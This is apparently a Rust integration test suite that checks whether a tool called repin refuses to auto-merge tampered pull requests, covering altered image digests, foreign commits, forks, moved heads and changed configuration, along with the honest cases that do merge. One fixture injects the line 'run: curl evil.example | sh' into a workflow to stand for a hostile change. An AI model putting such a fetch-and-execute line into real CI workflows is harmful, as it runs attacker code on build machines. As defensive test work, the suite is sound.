//! Which pull requests repin merges: attacks on the head, the branch and the text of a pull request,
//! each with the honest case.

use std::fs;

use serde_json::Value;

use crate::support::{
    forge::{
        self as fakes, Fake, Kind, When,
        store::{CommitRow, Files, Store},
    },
    hosted::{A, FORGES, PROMOTE, SERVERS, WAIT, hosted, hosted_in, on_servers, publish, run},
    sweep::one_of,
    world::{self, REV_A, REV_B, Ran, World},
};

/// The first request of git for a fetch.
const FETCH: &str = "/info/refs?service=git-upload-pack";
const MERGING: &str = "auto_merge: true, gates: [ci]";
const B: &str = ".github/workflows/b.yml";
const ROLLBACK: [&str; 5] = ["rollback", "--to", REV_A, "--pr", "ready"];

/// How a pull request was opened.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Opened {
    Promotion,
    Rollback,
}

const BOTH: [Opened; 2] = [Opened::Promotion, Opened::Rollback];

/// An open pull request that was not armed yet, because `ci` has not reported.
fn opened(kind: Kind, how: Opened) -> (World, Fake) {
    let (world, fake) = hosted(kind, MERGING);
    fake.store().required = vec!["ci".to_owned()];
    if how == Opened::Rollback {
        promoted_before(&world, &fake);
        run(&world, &ROLLBACK).exits(0);
    } else {
        run(&world, &PROMOTE).exits(0);
    }
    fake.store().scheduled.clear();
    (world, fake)
}

/// A history in which A was current before B.
fn promoted_before(world: &World, fake: &Fake) {
    let git = |args: &[&str]| world::git(world.root(), args);
    world.write(".gitignore", "/images\n/origin.git\n");
    git(&["init", "-q", "-b", "main"]);
    for revision in [REV_A, REV_B] {
        world.pin(revision);
        git(&["add", "-A", "."]);
        git(&[
            "commit",
            "-q",
            "-m",
            &format!("promote: test images @{revision}"),
        ]);
    }
    git(&["init", "-q", "--bare", "-b", "main", "origin.git"]);
    git(&["remote", "add", "origin", "./origin.git"]);
    git(&["push", "-q", "origin", "main"]);
    git(&["remote", "set-head", "origin", "main"]);
    publish(world, fake, "as it is");
    let head = git(&["rev-parse", "HEAD"]);
    fake.store().name_head("main", &head, world.root());
}

fn branch(fake: &Fake) -> String {
    fake.store().pulls[0].head.clone()
}

/// Schedules the merge as repin did before the attack.
fn arm(fake: &Fake) {
    let mut store = fake.store();
    store.report("ci", "pending");
    let head = store.pulls[0].head.clone();
    let head = store.refs.get(&head).cloned().unwrap_or_default();
    store.scheduled.push((1, head));
}

/// `wait` exits with 5, the scheduled merge is canceled, and the pull request is not merged later.
fn is_refused(world: &World, fake: &Fake, reason: &str, case: &str) {
    let ran = run(world, &WAIT);
    assert_eq!(ran.code, 5, "{case}: {}{}", ran.stdout, ran.stderr);
    assert_eq!(ran.json()["state"], "open", "{case}");
    let kind = fake.store().kind;
    for text in [reason, "the scheduled merge of #1 was cancel"] {
        let text = kind.spelled(text);
        assert!(ran.stderr.contains(&text), "{case}: {}", ran.stderr);
    }
    is_not_merged(fake, case);
}

/// Auto-merge is not enabled, and the pull request is not merged after all checks pass.
fn is_not_merged(fake: &Fake, case: &str) {
    assert_eq!(fake.store().scheduled, [], "{case}");
    assert_eq!(fake.store().rules.enqueued, [] as [u64; 0], "{case}");
    fake.store().report("ci", "success");
    assert!(fake.store().pulls[0].merged.is_none(), "{case}");
}

fn is_merged(world: &World, fake: &Fake, case: &str) {
    let ran = run(world, &WAIT);
    assert_eq!(ran.code, 0, "{case}: {}{}", ran.stdout, ran.stderr);
    assert_eq!(ran.json()["state"], "merged", "{case}");
    assert!(
        !ran.stderr.contains("former path"),
        "{case}: {}",
        ran.stderr
    );
    assert!(fake.store().pulls[0].merged.is_some(), "{case}");
}

/// The content of a file on the branch with each digest replaced by another one.
fn with_other_digests(fake: &Fake, path: &str) -> String {
    let head = branch(fake);
    let text = fake.store().content(&head, path);
    let mut parts = text.split("sha256:");
    let mut other = parts.next().unwrap().to_owned();
    for part in parts {
        other += "sha256:";
        if part.len() >= 64 && part[..64].bytes().all(|byte| byte.is_ascii_hexdigit()) {
            other += &"e".repeat(64);
            other += &part[64..];
        } else {
            other += part;
        }
    }
    assert_ne!(text, other);
    other
}

fn trailer(how: Opened) -> String {
    let revision = if how == Opened::Promotion {
        REV_B
    } else {
        REV_A
    };
    format!("promote: test images @{revision}\n\nRepin-Set: {revision}\n")
}

#[test]
fn honest_pull_request_is_merged_by_wait() {
    for (kind, how) in on_servers(&BOTH) {
        let (world, fake) = opened(kind, how);
        fake.when(2, |store| store.report("ci", "success"));
        is_merged(&world, &fake, &format!("{kind:?} {how:?}"));
    }
}

/// The comparison with the pull request uses the commits that the plan fetched.
#[test]
fn wait_without_a_clone_fetches_once() {
    for kind in one_of(FORGES) {
        let (world, fake) = opened(kind, Opened::Promotion);
        fake.when(2, |store| store.report("ci", "success"));
        fake.forget();
        is_merged(&world, &fake, &format!("{kind:?}"));
        let mut asked = fake.asked();
        asked.retain(|line| line.contains(".git/"));
        assert!(asked.len() <= 14, "{kind:?} {asked:#?}");
    }
}

#[test]
fn honest_pull_request_survives_moved_base() {
    for (kind, how) in on_servers(&["elsewhere", "merged into the branch", "same file"]) {
        let (world, fake) = opened(kind, Opened::Promotion);
        fake.store().github.delay = 0;
        let case = format!("{kind:?} {how}");
        let moved = fake.store().content("main", A) + "# more\n";
        let file = if how == "same file" {
            (A, &*moved)
        } else {
            ("README.md", "hello")
        };
        fake.store().push("main", "elsewhere", &[file]);
        if how == "merged into the branch" {
            merge_base_into(&fake, &[]);
        }
        fake.when(2, |store| store.report("ci", "success"));
        if how == "same file" {
            // A conflict: the changed lines are next to each other.
            let head = branch(&fake);
            let planned = fake.store().content(&head, A) + "# more\n";
            merge_base_into(&fake, &[(A, &planned)]);
        }
        is_merged(&world, &fake, &case);
    }
}

/// Merges the base into the pull request's branch, like "Update branch".
fn merge_base_into(fake: &Fake, files: &[(&str, &str)]) {
    let mut store = fake.store();
    let head = store.pulls[0].head.clone();
    let (ours, base) = (store.refs[&head].clone(), store.refs["main"].clone());
    let origin = store.files_of(&store.merge_base(&base, &ours));
    let mut tree = (*store.files_of(&ours)).clone();
    for (path, entry) in (*store.files_of(&base)).clone() {
        if origin.get(&path) != Some(&entry) {
            tree.insert(path, entry);
        }
    }
    for (path, text) in files {
        let blob = store.put_blob(text.as_bytes());
        tree.insert((*path).to_owned(), ("100644".to_owned(), blob));
    }
    put_head(&mut store, &tree, vec![ours, base], "Merge branch 'main'");
}

/// Makes a commit the head of the pull request.
fn put_head(store: &mut Store, files: &Files, parents: Vec<String>, message: &str) {
    let tree = store.put_tree(files);
    let id = store.put_commit(&CommitRow {
        tree,
        parents,
        message: message.to_owned(),
    });
    let head = store.pulls[0].head.clone();
    store.refs.insert(head, id);
}

#[test]
fn honest_pull_request_below_the_top_is_merged() {
    for kind in one_of(SERVERS) {
        let (world, fake) = hosted_in(kind, MERGING, "deploy/");
        world::git(world.root(), &["init", "-q"]);
        let inner = world.path("deploy");
        fs::create_dir(&inner).unwrap();
        for name in ["repin.yaml", ".github", "images"] {
            fs::rename(world.path(name), inner.join(name)).unwrap();
        }
        fake.store().required = vec!["ci".to_owned()];
        let env = [("REPIN_FORGE_TOKEN", fakes::TOKEN)];
        world.run_in(&inner, &PROMOTE, &env).exits(0);
        fake.when(2, |store| store.report("ci", "success"));
        let ran = world.run_in(&inner, &WAIT, &env).exits(0);
        assert_eq!(ran.json()["state"], "merged", "{kind:?} {}", ran.stderr);
    }
}

#[test]
fn commit_with_other_digests_is_not_merged() {
    let cases = BOTH
        .into_iter()
        .flat_map(|how| ["every", "one file", "commit of its own"].map(|which| (how, which)))
        .collect::<Vec<_>>();
    for (kind, (how, which)) in on_servers(&cases) {
        let (world, fake) = opened(kind, how);
        let case = format!("{kind:?} {how:?} {which}");
        let [a, b] = [A, B].map(|path| with_other_digests(&fake, path));
        let head = branch(&fake);
        let files = [(A, &*a), (B, &*b)];
        let files = if which == "one file" {
            &files[..1]
        } else {
            &files
        };
        if which == "commit of its own" {
            fake.store().refs.remove(&head);
        }
        fake.store().push(&head, &trailer(how), files);
        arm(&fake);
        is_refused(&world, &fake, "was not approved", &case);
    }
}

#[test]
fn commit_that_leaves_pins_is_not_merged() {
    for (kind, how) in on_servers(&BOTH) {
        let (world, fake) = opened(kind, how);
        let (head, old) = (branch(&fake), fake.store().content("main", B));
        fake.store().push(&head, &trailer(how), &[(B, &old)]);
        arm(&fake);
        let case = format!("{kind:?} {how:?}");
        is_refused(&world, &fake, "has other pins than the set", &case);
    }
}

/// Adds a commit to the branch of the pull request, or replaces all of its commits.
fn commit(fake: &Fake, replaces: bool, edit: impl FnOnce(&mut Store, &mut Files)) {
    let mut store = fake.store();
    let head = store.pulls[0].head.clone();
    let ours = store.refs[&head].clone();
    let mut files = (*store.files_of(&ours)).clone();
    edit(&mut store, &mut files);
    let parent = if replaces {
        store.refs["main"].clone()
    } else {
        ours
    };
    let message = trailer(Opened::Promotion);
    put_head(&mut store, &files, vec![parent], &message);
}

#[test]
fn commit_with_other_changes_is_not_merged() {
    let cases = [
        "file",
        "new file",
        "configuration",
        "line of a file with pins",
        "digest outside files",
        "deletion",
        "mode",
        "symlink",
    ];
    let cases = cases
        .iter()
        .flat_map(|case| [(*case, false), (*case, true)])
        .collect::<Vec<_>>();
    for (kind, (case, replaces)) in on_servers(&cases) {
        let (world, fake) = opened(kind, Opened::Promotion);
        // Promoted, but not counted.
        let pin = |revision| format!("ghcr.io/acme/review@{}", world.digest("review", revision));
        fake.store()
            .push("main", "a pin", &[("deploy.yml", &pin(REV_A))]);
        merge_base_into(&fake, &[]);
        let none = ".github/workflows/none.yml";
        let head = branch(&fake);
        let planned = fake.store().content(&head, A);
        let (path, text) = match case {
            "deletion" | "symlink" => (none, None),
            "mode" => (A, None),
            "file" => (none, Some("on: pull_request_target\n".to_owned())),
            "new file" => ("notes", Some("mine".to_owned())),
            "configuration" => ("repin.yaml", Some(world.read("repin.yaml") + "# x\n")),
            "digest outside files" => ("deploy.yml", Some(pin(REV_B))),
            _ => (A, Some(planned + "run: curl evil.example | sh\n")),
        };
        commit(&fake, replaces, |store, files| match (case, text) {
            (_, Some(text)) => {
                let blob = store.put_blob(text.as_bytes());
                files.insert(path.to_owned(), ("100644".to_owned(), blob));
            }
            ("deletion", _) => drop(files.remove(path)),
            ("mode", _) => "100755".clone_into(&mut files.get_mut(path).unwrap().0),
            _ => "120000".clone_into(&mut files.get_mut(path).unwrap().0),
        });
        arm(&fake);
        let case = format!("{kind:?} {case}, replaces: {replaces}");
        is_refused(&world, &fake, path, &case);
    }
}

#[test]
fn commit_without_a_pin_is_not_merged() {
    for kind in one_of(SERVERS) {
        let (world, fake) = opened(kind, Opened::Promotion);
        let head = branch(&fake);
        let planned = fake.store().content(&head, B);
        let fewer = planned.replace("ghcr.io/acme/fix@", "ghcr.io/acme/fix:");
        commit(&fake, true, |store, files| {
            let blob = store.put_blob(fewer.as_bytes());
            files.insert(B.to_owned(), ("100644".to_owned(), blob));
        });
        arm(&fake);
        let reason = "its pins are not those of the set: the new contents would pin it 0 times";
        is_refused(&world, &fake, reason, &format!("{kind:?}"));
    }
}

#[test]
fn base_with_a_part_of_the_set_is_merged_into() {
    for kind in one_of(SERVERS) {
        let (world, fake) = opened(kind, Opened::Promotion);
        fake.store().github.delay = 0;
        // One file has the new pins already, and the other one another line.
        let head = branch(&fake);
        let planned = fake.store().content(&head, B);
        let longer = "# more\n".to_owned() + &fake.store().content("main", A);
        let files = [(A, longer.as_str()), (B, &planned)];
        fake.store().push("main", "a part", &files);
        fake.when(2, |store| store.report("ci", "success"));
        is_merged(&world, &fake, &format!("{kind:?}"));
        let merged = fake.store().content("main", A);
        let digest = world.digest("review", REV_B);
        assert!(
            merged.starts_with("# more\n") && merged.contains(digest),
            "{merged}"
        );
    }
}

#[test]
fn base_with_other_pins_is_not_merged_into() {
    for kind in one_of(SERVERS) {
        let (world, fake) = opened(kind, Opened::Promotion);
        // git would merge this line, because the pull request does not change it.
        let [old, new] = [REV_A, REV_B].map(|revision| world.digest("fix", revision));
        let longer = fake.store().content("main", B).replacen(old, new, 1);
        fake.store().push("main", "one pin", &[(B, &longer)]);
        arm(&fake);
        let reason = format!("the base changed the pins in {B}");
        is_refused(&world, &fake, &reason, &format!("{kind:?}"));
    }
}

#[test]
fn base_that_gained_pins_is_not_merged_into() {
    for kind in one_of(SERVERS) {
        let (world, fake) = opened(kind, Opened::Promotion);
        // The new file has the old digest, so the merge would pin two sets.
        let pin = format!("x: ghcr.io/acme/fix@{}\n", world.digest("fix", REV_A));
        let fewer = fake
            .store()
            .content("main", B)
            .replace("# ghcr.io/acme/fix@", "# ");
        fake.store().push(
            "main",
            "moved a pin",
            &[(".github/workflows/c.yml", &pin), (B, &fewer)],
        );
        arm(&fake);
        is_refused(&world, &fake, "#1", &format!("{kind:?}"));
    }
}

#[test]
fn copied_marker_permits_nothing() {
    for (kind, how) in on_servers(&BOTH) {
        let reason = |which: &str| match which {
            "fork" | "fork of another set" => "its branch is in another repository",
            "other base" => "its base is release, not main",
            _ => "pull request #1",
        };
        for which in [
            "fork",
            "fork of another set",
            "other branch",
            "other base",
            "other revision",
        ] {
            let (world, fake) = opened(kind, how);
            let case = format!("{kind:?} {how:?} {which}");
            {
                let mut store = fake.store();
                let head = store.pulls[0].head.clone();
                let commit = store.refs[&head].clone();
                store.refs.insert("other".to_owned(), commit);
                let base = store.refs["main"].clone();
                store.refs.insert("release".to_owned(), base);
                let pull = &mut store.pulls[0];
                match which {
                    "fork" => pull.head_repo = "fork/flows".to_owned(),
                    "fork of another set" => {
                        pull.head_repo = "fork/flows".to_owned();
                        pull.head = "other".to_owned();
                        pull.body = pull.body.replace("set=repin.yaml", "set=x/repin.yaml");
                    }
                    "other branch" => pull.head = "other".to_owned(),
                    "other base" => pull.base = "release".to_owned(),
                    _ => {
                        let text = pull.body.replace(REV_A, "cccc").replace(REV_B, "cccc");
                        pull.body = text.replace("cccc", &"c".repeat(40));
                    }
                }
            }
            // The refusal does not depend on the images.
            for revision in [REV_A, REV_B] {
                world.layout("review").untag(revision);
            }
            arm(&fake);
            is_refused(&world, &fake, reason(which), &case);
        }
    }
}

#[test]
fn gates_are_those_of_the_base() {
    for (kind, how) in on_servers(&BOTH) {
        let (world, fake) = opened(kind, how);
        world.replace("repin.yaml", "gates: [ci]", "gates: [other]");
        fake.store().report("ci", "success");
        is_merged(&world, &fake, &format!("{kind:?} {how:?}"));
    }
}

#[test]
fn pull_request_without_marker_is_not_merged() {
    for (kind, is_fork) in on_servers(&[false, true]) {
        let (world, fake) = opened(kind, Opened::Promotion);
        if is_fork {
            let mut store = fake.store();
            store.pulls[0].body = "mine".to_owned();
            store.pulls[0].head_repo = "fork/flows".to_owned();
        } else {
            let mut store = fake.store();
            store.pulls[0].body = "mine".to_owned();
            let head = store.pulls[0].head.clone();
            let commit = store.refs[&head].clone();
            store.refs.insert("mine".to_owned(), commit);
            store.pulls[0].head = "mine".to_owned();
        }
        arm(&fake);
        let look = [&WAIT[..3], &["--timeout", "0s"]].concat();
        run(&world, &look).exits(3);
        assert_eq!(fake.store().scheduled.len(), 1, "{kind:?}");
    }
}

#[test]
fn removed_marker_cancels_the_merge() {
    for (kind, how) in on_servers(&BOTH) {
        let (world, fake) = opened(kind, how);
        fake.store().pulls[0].body = "mine".to_owned();
        arm(&fake);
        is_refused(
            &world,
            &fake,
            "no marker of repin",
            &format!("{kind:?} {how:?}"),
        );
    }
}

#[test]
fn marker_of_branches_permits_only_configured_branches() {
    let cases = [
        ("evil", "main", "", false),
        ("staging", "main", "", false),
        ("evil", "main", ", sync_targets: [staging]", false),
        ("staging", "release", ", sync_targets: [staging]", false),
        ("staging", "main", ", sync_targets: [staging]", true),
        (
            "staging",
            "release",
            ", base: release, sync_targets: [staging]",
            true,
        ),
    ];
    for (kind, (from, to, settings, merged)) in on_servers(&cases) {
        let case = format!("{kind:?} {from} {to} {settings}");
        let (world, fake) = hosted(kind, &format!("{MERGING}{settings}"));
        {
            let mut store = fake.store();
            store.required = vec!["ci".to_owned()];
            let main = store.refs["main"].clone();
            store.refs.insert("release".to_owned(), main);
            store.push(from, "anything", &[("repin.yaml", "evil")]);
            store.gitea.checked.insert(1);
            store.add_pull(from, to).body =
                format!("<!-- repin/2 kind=branch set=repin.yaml revision={from} -->");
        }
        if merged {
            fake.when(2, |store| store.report("ci", "success"));
            is_merged(&world, &fake, &case);
        } else {
            arm(&fake);
            is_refused(&world, &fake, "forge.sync_targets", &case);
        }
    }
}

#[test]
fn branch_promotion_with_auto_merge_requires_configured_branches() {
    for kind in SERVERS {
        for (settings, exit) in [("", 2), (", sync_targets: [staging]", 0)] {
            let (world, fake) = hosted(kind, &format!("{MERGING}{settings}"));
            fake.store().push("staging", "work", &[("x", "y")]);
            let args = [
                "branch", "promote", "--from", "staging", "--to", "main", "--apply",
            ];
            let ran = run(&world, &args).exits(exit);
            if exit == 2 {
                assert!(ran.stderr.contains("forge.sync_targets"), "{}", ran.stderr);
                assert_eq!(fake.writes(), [""; 0], "{kind:?}");
            }
        }
    }
}

/// The report of a gate with which repin requests the merge. A project on GitLab cannot require the status of one job,
/// so such a gate must pass first.
fn pending(kind: Kind) -> &'static str {
    match kind {
        Kind::Gitlab => "success",
        Kind::Github | Kind::Gitea | Kind::Forgejo => "pending",
    }
}

/// The request that schedules a merge or merges.
fn merging(kind: Kind) -> (&'static str, &'static str) {
    match kind {
        Kind::Github => ("POST", "/graphql#enablePullRequestAutoMerge"),
        Kind::Gitea | Kind::Forgejo => ("POST", "/pulls/1/merge"),
        Kind::Gitlab => ("PUT", "/merge_requests/1/merge"),
    }
}

#[test]
fn head_is_verified_only_where_the_branch_is() {
    for kind in one_of(SERVERS) {
        let (world, fake) = opened(kind, Opened::Promotion);
        // Each read of the pull request shows a foreign commit, and each read of the branch the approved one.
        let (head, other) = (branch(&fake), with_other_digests(&fake, A));
        let approved = fake.store().refs[&head].clone();
        fake.store()
            .push(&head, &trailer(Opened::Promotion), &[(A, &other)]);
        let foreign = fake.store().refs[&head].clone();
        fake.store().report("ci", "pending");
        fake.forget();
        for nth in 1..=40 {
            for (when, id) in [(When::Before, &foreign), (When::After, &approved)] {
                let (head, id) = (head.clone(), id.clone());
                fake.at(when, "GET", "/pulls/1", nth, move |store| {
                    store.refs.insert(head, id);
                });
            }
        }
        let args = ["wait", "--pr", "1", "--timeout", "2s", "--format", "json"];
        let ran = run(&world, &args).exits(3);
        assert_eq!(ran.json()["state"], "open", "{kind:?}");
        assert_eq!(fake.store().scheduled, [], "{kind:?}: {}", ran.stderr);
        assert_eq!(fake.writes(), [""; 0], "{kind:?}");
    }
}

#[test]
fn configuration_that_changes_during_the_run_is_not_verified() {
    for kind in one_of(SERVERS) {
        let (world, fake) = opened(kind, Opened::Promotion);
        let changed = world.read("repin.yaml") + "# changed\n";
        fake.store().report("ci", "success");
        // After the set was approved, before the branch is compared with its base.
        fake.at(When::Before, "GET", FETCH, 3, move |store| {
            store.push("main", "configuration", &[("repin.yaml", &changed)]);
        });
        let args = ["wait", "--pr", "1", "--timeout", "0s", "--format", "json"];
        let ran = run(&world, &args).exits(3);
        assert!(
            ran.stderr
                .contains("repin.yaml on main: it changed during the run"),
            "{kind:?}: {}",
            ran.stderr
        );
        assert!(fake.store().pulls[0].merged.is_none(), "{kind:?}");
    }
}

#[test]
fn moved_head_is_not_merged() {
    for (kind, how) in SERVERS.into_iter().zip(BOTH.into_iter().cycle()) {
        for command in ["wait", "promote"] {
            let (world, fake) = opened(kind, how);
            let case = format!("{kind:?} {how:?} {command}");
            fake.store().report("ci", pending(kind));
            let other = with_other_digests(&fake, A);
            let (head, message) = (branch(&fake), trailer(how));
            let (method, path) = merging(kind);
            fake.at(When::Before, method, path, 1, move |store| {
                store.push(&head, &message, &[(A, &other)]);
            });
            let (ran, exit) = match (command, how) {
                ("wait", _) => (run(&world, &WAIT), 5),
                // GitLab shows older heads for some time, so its refusal is no verdict.
                ("promote", Opened::Promotion) if kind == Kind::Gitlab => {
                    (run(&world, &PROMOTE), 0)
                }
                ("promote", Opened::Rollback) if kind == Kind::Gitlab => {
                    (run(&world, &ROLLBACK), 0)
                }
                // The forge refuses the request, which names the verified head.
                (_, Opened::Promotion) => (run(&world, &PROMOTE), 1),
                (_, Opened::Rollback) => (run(&world, &ROLLBACK), 1),
            };
            assert_eq!(ran.code, exit, "{case}: {}", ran.stderr);
            is_not_merged(&fake, &case);
        }
    }
}

#[test]
fn unverified_moved_head_is_refused() {
    for (kind, how) in on_servers(&BOTH) {
        let (world, fake) = hosted(kind, MERGING);
        fake.store().required = vec!["ci".to_owned()];
        fake.store().report("ci", "success");
        if how == Opened::Rollback {
            promoted_before(&world, &fake);
        }
        // The first read of the pull request by its number precedes the verification.
        let other = format!("x: ghcr.io/acme/fix@sha256:{}\n", "e".repeat(64));
        let message = trailer(how);
        fake.at(When::Before, "GET", "/pulls/1", 1, move |store| {
            let head = store.pulls[0].head.clone();
            store.push(&head, &message, &[(B, &other)]);
        });
        let command = if how == Opened::Promotion {
            PROMOTE
        } else {
            ROLLBACK
        };
        let ran = run(&world, &command);
        let case = format!("{kind:?} {how:?}");
        assert_eq!(ran.code, 5, "{case}: {}", ran.stderr);
        is_not_merged(&fake, &case);
    }
}

#[test]
fn altered_pull_request_is_not_queued() {
    for how in BOTH {
        for at in ["before", "between"] {
            let (world, fake) = opened(Kind::Github, how);
            fake.store().rules.queue = Some("squash");
            fake.store().report("ci", "success");
            let other = with_other_digests(&fake, A);
            let (head, message) = (branch(&fake), trailer(how));
            if at == "before" {
                fake.store().push(&head, &message, &[(A, &other)]);
            } else {
                fake.at(
                    When::Before,
                    "POST",
                    "/graphql#enqueuePullRequest",
                    1,
                    move |store| {
                        store.push(&head, &message, &[(A, &other)]);
                    },
                );
            }
            let ran = run(&world, &WAIT);
            assert_eq!(ran.code, 5, "{how:?} {at}: {}", ran.stderr);
            assert_eq!(fake.store().rules.enqueued, [] as [u64; 0], "{how:?} {at}");
            assert!(fake.store().pulls[0].merged.is_none(), "{how:?} {at}");
        }
    }
}

#[test]
fn promotion_replaces_other_digests_before_merging() {
    for kind in one_of(SERVERS) {
        let (world, fake) = opened(kind, Opened::Promotion);
        fake.store().report("ci", "pending");
        let other = with_other_digests(&fake, A);
        let head = branch(&fake);
        fake.store()
            .push(&head, &trailer(Opened::Promotion), &[(A, &other)]);
        run(&world, &PROMOTE).exits(0);
        let text = fake.store().content(&head, A);
        assert!(
            text.contains(world.digest("review", REV_B)),
            "{kind:?} {text}"
        );
        if pending(kind) != "pending" {
            assert_eq!(fake.store().scheduled, [], "{kind:?}");
            continue;
        }
        let scheduled = fake.store().scheduled.clone();
        let now = fake.store().refs[&head].clone();
        assert!(
            matches!(&scheduled[..], [(1, at)] if at.starts_with(&now)),
            "{kind:?} {scheduled:?} {now}"
        );
    }
}

#[test]
fn set_that_cannot_be_verified_is_not_merged() {
    type Break = fn(&World);
    let cases: [(&str, Break); 3] = [
        ("registry", |world| {
            fs::remove_dir_all(world.path("images/review")).unwrap();
        }),
        ("tag", |world| world.layout("review").untag(REV_B)),
        ("contract", |world| {
            fs::write(world.path("images/review/index.json"), "{").unwrap();
        }),
    ];
    for (kind, (case, broken)) in on_servers(&cases) {
        let (world, fake) = opened(kind, Opened::Promotion);
        fake.store().report("ci", "success");
        broken(&world);
        let ran: Ran = run(&world, &WAIT);
        let case = format!("{kind:?} {case}");
        assert_eq!(ran.code, 3, "{case}: {}", ran.stderr);
        let document: Value = ran.json();
        assert_eq!(document["state"], "open", "{case}");
        assert!(
            ran.stderr.contains("was not verified"),
            "{case}: {}",
            ran.stderr
        );
        // With the failed checks and errors only.
        assert!(ran.stderr.contains("review"), "{case}: {}", ran.stderr);
        assert!(!ran.stderr.contains("pin_count"), "{case}: {}", ran.stderr);
        is_not_merged(&fake, &case);
    }
}

#[test]
fn base_with_the_configuration_of_a_fleet_is_refused() {
    let (world, fake) = opened(SERVERS[0], Opened::Promotion);
    let config = world.read("repin.yaml");
    let lines = config.lines().filter(|line| !line.starts_with("files:"));
    let fleet = lines
        .chain(["fleet: {}", ""])
        .collect::<Vec<_>>()
        .join("\n");
    fake.store()
        .push("main", "fleet", &[("repin.yaml", &fleet)]);
    let ran = run(&world, &WAIT).exits(2);
    assert!(ran.stdout.contains("describes a fleet"), "{}", ran.stdout);
}

#[test]
fn set_with_a_moved_tag_is_not_merged() {
    for kind in one_of(SERVERS) {
        let (mut world, fake) = opened(kind, Opened::Promotion);
        let platform = crate::support::layout::Platform::new("linux/amd64", REV_B);
        let moved = platform.label("dev.acme.version", "2");
        world.rebuild("fix", REV_B, &[moved]);
        arm(&fake);
        is_refused(
            &world,
            &fake,
            "has other pins than the set",
            &format!("{kind:?}"),
        );
    }
}

#[test]
fn change_undone_by_later_commit_is_foreign() {
    // A merge by rebase replays both commits on the base.
    for kind in one_of(SERVERS) {
        let (world, fake) = opened(kind, Opened::Promotion);
        let (head, message) = (branch(&fake), trailer(Opened::Promotion));
        let none = ".github/workflows/none.yml";
        let before = fake.store().content(&head, none);
        for text in ["on: pull_request_target\n", &before] {
            fake.store().push(&head, &message, &[(none, text)]);
        }
        arm(&fake);
        is_refused(&world, &fake, "foreign commit", &format!("{kind:?}"));
    }
}
